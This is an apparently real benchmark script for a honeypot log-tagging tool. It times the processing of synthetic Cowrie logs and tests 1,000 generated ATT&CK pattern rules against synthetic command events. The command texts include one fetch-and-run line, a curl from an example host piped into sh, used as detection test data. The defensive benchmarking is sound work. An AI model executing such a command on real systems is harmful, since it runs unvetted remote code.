"""Input adapter and tag job benchmarks: Cowrie beside native events, --jobs, 1,000 rules.

Run: python -m bench.bench_inputs   (`make bench` runs it; `… rules`: the 1,000-rule run alone)
Prints a Markdown section. BENCH_INPUT_LINES sets the size of the Cowrie log
(default 1,000,000 lines); BENCH_RULE_EVENTS the command events of the 1,000-rule run
(default 100,000).
"""

from __future__ import annotations

import os
import re
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

import orjson  # noqa: E402

from bench.bench_engine import TEMPLATES, example_events  # noqa: E402
from bench.cowrie_synth import cowrie_lines  # noqa: E402
from decnet.ttp.inputs import SessionProtocols, Skipped, mapper  # noqa: E402

COMMAND = "python -m bench.bench_inputs"
PACK = ROOT / "rules" / "ttp"
LINES = int(os.environ.get("BENCH_INPUT_LINES", "1000000"))
RULE_EVENTS = int(os.environ.get("BENCH_RULE_EVENTS", "100000"))
RULE_COUNT = 1_000
REFERENCE_EVENTS = 3_000

RULE = """\
rule_id: {rule_id}
rule_version: 1
name: synthetic_{n}
applies_to: [command]
match:
  pattern: '{pattern}'
emits:
  - {{tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.7}}
evidence_fields: [command_text]
"""


@dataclass
class Run:
    seconds: float
    peak_mb: float
    rss_mb: list[float]
    stderr: str
    cpu: float  # CPU seconds of the process and its workers
    own_cpu: float  # CPU seconds of the main process alone


TICK = os.sysconf("SC_CLK_TCK")


def own_cpu(pid: int) -> float:
    """utime + stime of `pid` itself (not its children), seconds."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / TICK


def run_tag(args: list[str]) -> Run:
    """`decnet-ttp tag ARGS` in a child process: wall time and its RSS over time."""
    command = [sys.executable, "-m", "decnet.cli.app", "tag", *args]
    with tempfile.NamedTemporaryFile("w+", suffix=".log") as log:
        started = time.perf_counter()
        pid = os.posix_spawn(sys.executable, command, {**os.environ, "PYTHONPATH": str(ROOT)},
                             file_actions=[
                                 (os.POSIX_SPAWN_OPEN, 1, os.devnull, os.O_WRONLY, 0),
                                 (os.POSIX_SPAWN_DUP2, log.fileno(), 2)])
        peak_kb = 0
        samples: list[float] = []
        main_cpu = 0.0
        while True:
            done, status, usage = os.wait4(pid, os.WNOHANG)
            if done:
                break
            try:
                main_cpu = own_cpu(pid)
                text = Path(f"/proc/{pid}/status").read_text()
                peak_kb = max(peak_kb, int(text.split("VmHWM:")[1].split()[0]))
                total = tree_rss_kb(pid)
                peak_kb = max(peak_kb, total)
                samples.append(total / 1024)
            except (OSError, IndexError, ValueError):
                pass
            time.sleep(0.01)
        elapsed = time.perf_counter() - started
        log.seek(0)
        errors = log.read()
    if os.waitstatus_to_exitcode(status) != 0:
        raise RuntimeError(f"tag failed: {errors[-800:]}")
    return Run(elapsed, peak_kb / 1024, samples, errors, usage.ru_utime + usage.ru_stime,
               main_cpu)


def tree_rss_kb(pid: int) -> int:
    """Resident memory of a process and its children (the --jobs workers), KiB."""
    children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    total = 0
    for member in (pid, *map(int, children)):
        try:
            status = Path(f"/proc/{member}/status").read_text()
            total += int(status.split("VmRSS:")[1].split()[0])
        except (OSError, IndexError, ValueError):
            continue
    return total


def _spin(seconds: float) -> None:
    started = time.process_time()
    while time.process_time() - started < seconds:
        pass


def free_cores(seconds: float = 1.0) -> float:
    """Cores this run really gets: two processes spin `seconds` of CPU each; 2.0 on an
    idle 2-core machine, about 1.0 when other jobs hold a core."""
    import multiprocessing

    context = multiprocessing.get_context("fork")
    started = time.perf_counter()
    workers = [context.Process(target=_spin, args=(seconds,)) for _ in range(2)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    return 2 * seconds / (time.perf_counter() - started)


def write_cowrie(path: Path, count: int) -> None:
    with path.open("wb") as out:
        for line in cowrie_lines(count):
            out.write(line + b"\n")


def write_native(cowrie: Path, path: Path) -> int:
    """The events of a Cowrie log as native event lines (the same events, ids and all)."""
    map_record = mapper("cowrie")
    sessions = SessionProtocols()
    events = 0
    with cowrie.open("rb") as source, path.open("wb") as out:
        for line in source:
            line = line.rstrip()
            mapped = map_record(orjson.loads(line), line)
            if isinstance(mapped, Skipped):
                continue
            for event in mapped:
                event = sessions.observe(event)
                out.write(orjson.dumps({
                    "source_kind": event.source_kind, "source_id": event.source_id,
                    "payload": event.payload, "session_id": event.session_id,
                    "src_ip": event.src_ip, "sensor": event.sensor,
                    "timestamp": event.timestamp}) + b"\n")
                events += 1
    return events


def flatness(run: Run) -> str:
    """RSS at the middle of the run and at its last sample: flat when they agree."""
    if len(run.rss_mb) < 4:
        return "too short to sample"
    middle = run.rss_mb[len(run.rss_mb) // 2]
    return f"{middle:,.0f} MB at half-time, {run.rss_mb[-2]:,.0f} MB near the end"


def formats_section(tmp: Path) -> None:
    cowrie = tmp / "cowrie.json"
    native = tmp / "native.jsonl"
    write_cowrie(cowrie, LINES)
    events = write_native(cowrie, native)
    out = str(tmp / "tags.jsonl")
    common = ["--rules", str(PACK), "-o", out]
    runs: dict[str, list[Run]] = {"cowrie": [], "native": [], "cowrie2": []}
    for _ in range(2):  # interleaved, best of two: the machine is shared
        runs["cowrie"].append(run_tag([str(cowrie), "--format", "cowrie", "--jobs", "1",
                                       *common]))
        runs["native"].append(run_tag([str(native), "--format", "native", "--jobs", "1",
                                       *common]))
        runs["cowrie2"].append(run_tag([str(cowrie), "--format", "cowrie", "--jobs", "2",
                                        *common]))
    cores = free_cores()
    best = {name: min(found, key=lambda r: r.seconds) for name, found in runs.items()}
    c, n, c2 = best["cowrie"], best["native"], best["cowrie2"]
    print(f"Cowrie log of {LINES:,} lines ({cowrie.stat().st_size / 1e6:,.0f} MB: "
          f"{events:,} events; ~14 % failed logins, 8 % tunnel data, 1.3 % commands, the "
          f"rest connects, versions, key exchanges and closes), the shipped pack, end to end "
          "(start-up, load, read, evaluate, write), best of two interleaved runs each:\n")
    print("| run | seconds | lines/s | events/s | CPU s (main process) | peak RSS (all "
          "processes) | RSS over the run |")
    print("|---|---:|---:|---:|---:|---:|---|")
    for label, run in (("`tag --format cowrie --jobs 1`", c),
                       ("`tag --format native --jobs 1` (the same events)", n),
                       ("`tag --format cowrie --jobs 2`", c2)):
        print(f"| {label} | {run.seconds:.1f} | {LINES / run.seconds:,.0f} | "
              f"{events / run.seconds:,.0f} | {run.cpu:.1f} ({run.own_cpu:.1f}) | "
              f"{run.peak_mb:,.0f} MB | {flatness(run)} |")
    critical = max(c2.own_cpu, c2.cpu / 2)
    print(f"\nCowrie at **{n.seconds / c.seconds:.0%}** of the native throughput by wall time, "
          f"**{n.cpu / c.cpu:.0%}** by CPU time (events/s, target ≥ 70 %). `--jobs 2` was "
          f"{c.seconds / c2.seconds:.2f}x as fast as `--jobs 1` by wall time in this run, "
          f"where two spinning processes got {cores:.2f} cores (target ≥ 1.8x on 2 cores); "
          f"it spent "
          f"{c2.cpu / c.cpu:.2f}x the CPU of `--jobs 1`, {c2.own_cpu:.1f} s of it in the main "
          f"process: on two otherwise idle cores its wall time is bounded by "
          f"max(main process, all CPU / 2) = {critical:.1f} s, a speed-up of "
          f"**{c.cpu / critical:.2f}x** over `--jobs 1`'s {c.cpu:.1f} CPU s.")


def write_rules(directory: Path, count: int) -> list[str]:
    directory.mkdir()
    patterns = []
    for n in range(count):
        pattern = TEMPLATES[n % len(TEMPLATES)].format(n=n, flag="abcdefgh"[n % 8])
        rule_id = f"S{n:06d}"
        (directory / f"{rule_id}.yaml").write_text(
            RULE.format(rule_id=rule_id, n=n, pattern=pattern), encoding="utf-8")
        patterns.append(pattern)
    return patterns


def command_texts(count: int) -> list[str]:
    """The example sessions' commands, one in five aimed at a synthetic rule."""
    commands = [e["payload"]["command_text"] for e in example_events()
                if e["source_kind"] == "command"]
    texts = []
    for i in range(count):
        if i % 5 == 0:
            n = (i * 7919) % RULE_COUNT
            texts.append([f"tool{n} -{'abcdefgh'[n % 8]} /tmp/x", f"sh /opt/app{n}/run.sh",
                          f"curl -s http://svc{n}.example.com/i | sh", f"agent{n} --quiet"][n % 4])
        else:
            texts.append(commands[i % len(commands)])
    return texts


def rules_section(tmp: Path) -> None:
    patterns = write_rules(tmp / "rules", RULE_COUNT)
    texts = command_texts(RULE_EVENTS)
    events = tmp / "commands.jsonl"
    with events.open("wb") as out:
        for i, text in enumerate(texts):
            out.write(orjson.dumps({"source_kind": "command", "source_id": f"c{i}",
                                    "payload": {"command_text": text, "user": "root"}})
                      + b"\n")
    compiled = [re.compile(p, re.ASCII) for p in patterns]
    sample = texts[:REFERENCE_EVENTS]
    started = time.perf_counter()
    cpu_started = time.process_time()
    hits = 0
    for text in sample:
        for pattern in compiled:
            if pattern.search(text):
                hits += 1
    reference = len(sample) / (time.perf_counter() - started)
    reference_cpu = len(sample) / (time.process_time() - cpu_started)
    run = min((run_tag([str(events), "--format", "native", "--jobs", "1", "--rules",
                        str(tmp / "rules"), "-o", str(tmp / "rule-tags.jsonl")])
               for _ in range(3)), key=lambda found: found.seconds)
    rate = RULE_EVENTS / run.seconds
    print(f"\n{RULE_COUNT:,} pattern rules x {RULE_EVENTS:,} command events, one core: "
          f"`tag --jobs 1` end to end (start-up, load and compile of the 1,000 rules, read, "
          f"evaluate, write; best of three) {run.seconds:.1f} s = {rate:,.0f} events/s "
          f"({run.cpu:.1f} CPU s); a plain loop of "
          f"precompiled `re.search` over the same rules ({REFERENCE_EVENTS:,} of the events, "
          f"same run) {reference:,.0f} events/s: **{rate / reference:.1f}x** by wall time, "
          f"**{RULE_EVENTS / run.cpu / reference_cpu:.1f}x** by CPU time (target ≥ 20x).")


def main() -> None:
    if sys.argv[1:] == ["rules"]:  # the 1,000-rule run alone
        with tempfile.TemporaryDirectory() as name:
            rules_section(Path(name))
        return
    print(f"### Input adapters and the tag job\n\n`{COMMAND}` (Python "
          f"{sys.version.split()[0]}; {os.cpu_count()} cores)\n")
    with tempfile.TemporaryDirectory() as name:
        tmp = Path(name)
        formats_section(tmp)
        rules_section(tmp)


if __name__ == "__main__":
    main()
